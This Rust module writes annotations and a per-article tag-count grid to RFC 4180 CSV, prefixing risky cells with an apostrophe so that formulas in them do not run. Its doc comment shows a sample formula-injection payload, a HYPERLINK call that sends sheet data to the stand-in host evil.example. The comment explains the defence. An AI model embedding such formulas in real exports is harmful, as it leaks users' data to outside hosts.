//! CSV for spreadsheets: one row per annotation (`--format csv`), or the overview grid
//! (`--format grid`: a row per tag, a count column per article). Quoting is RFC 4180, done by
//! the `csv` crate; rows end in CRLF as the RFC says. Positions are the char offsets of the
//! passage in the article as it is now (empty for an annotation whose passage is lost), so a
//! row keeps the way back to its passage.
//!
//! **Formula injection.** A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and
//! some also after a tab or carriage return) as a formula: a note
//! `=HYPERLINK("http://evil.example/?"&A1,"x")` would send the sheet's data away when
//! clicked. As OWASP recommends, every text cell that starts with one of those characters is
//! written with a leading `'` ([`neutralise`]), which spreadsheets show as text and hide. A
//! script reading the CSV back sees the `'` and can strip it.

use crate::annotation::Annotation;
use crate::workspace::Workspace;

/// The header of the annotations CSV.
/// `page` (a PDF's printed page label) comes last, so scripts that read the columns by
/// position before it existed read the same cells.
pub const HEADER: [&str; 11] = [
    "id", "article", "start", "end", "color", "tags", "quote", "note", "created", "modified",
    "page",
];

pub use crate::spreadsheet::neutralise;

/// Writes a row of text cells, each neutralised.
fn row<'a>(w: &mut csv::Writer<Vec<u8>>, cells: impl IntoIterator<Item = &'a str>) {
    w.write_record(cells.into_iter().map(|c| neutralise(c).into_owned()))
        .expect("in memory");
}

fn writer() -> csv::Writer<Vec<u8>> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new())
}

fn finish(w: csv::Writer<Vec<u8>>) -> String {
    let bytes = w.into_inner().expect("writing to memory does not fail");
    String::from_utf8(bytes).expect("CSV of UTF-8 fields is UTF-8")
}

/// One row per annotation, sorted as the notes file sorts them.
pub fn to_csv(workspace: &Workspace, annotations: &[Annotation]) -> String {
    let mut sorted: Vec<&Annotation> = annotations.iter().collect();
    sorted.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    let mut w = writer();
    w.write_record(HEADER).expect("in memory");
    for a in sorted {
        let (quote, position) = workspace.current_selectors(a);
        let (start, end) = position.map_or((String::new(), String::new()), |p| {
            (p.start.to_string(), p.end.to_string())
        });
        let tags: Vec<std::borrow::Cow<str>> = a.tags.iter().map(|t| neutralise(t)).collect();
        // A PDF's printed page label ("12", "xiv"); empty for other articles.
        let page = super::page_of(workspace, &a.article, position.as_ref())
            .map(|(_, label)| label)
            .unwrap_or_default();
        row(
            &mut w,
            [
                a.id.as_str(),
                a.article.as_str(),
                &start,
                &end,
                a.color.name(),
                &tags.join(";"),
                &quote.exact,
                &a.note,
                &a.created.to_string(),
                &a.modified.to_string(),
                &page,
            ],
        );
    }
    finish(w)
}

/// The overview grid: `tag`, then one count column per article of the corpus.
pub fn grid_csv(workspace: &Workspace) -> String {
    let articles: Vec<&str> = workspace
        .corpus
        .articles
        .iter()
        .map(|a| a.file_name.as_str())
        .collect();
    let grid = crate::overview::grid(&articles, workspace.notebook().annotations());
    let mut w = writer();
    row(
        &mut w,
        std::iter::once("tag").chain(articles.iter().copied()),
    );
    for (tag, counts) in grid.tag_rows() {
        let cells: Vec<String> = counts.iter().map(usize::to_string).collect();
        row(
            &mut w,
            std::iter::once(tag).chain(cells.iter().map(String::as_str)),
        );
    }
    finish(w)
}
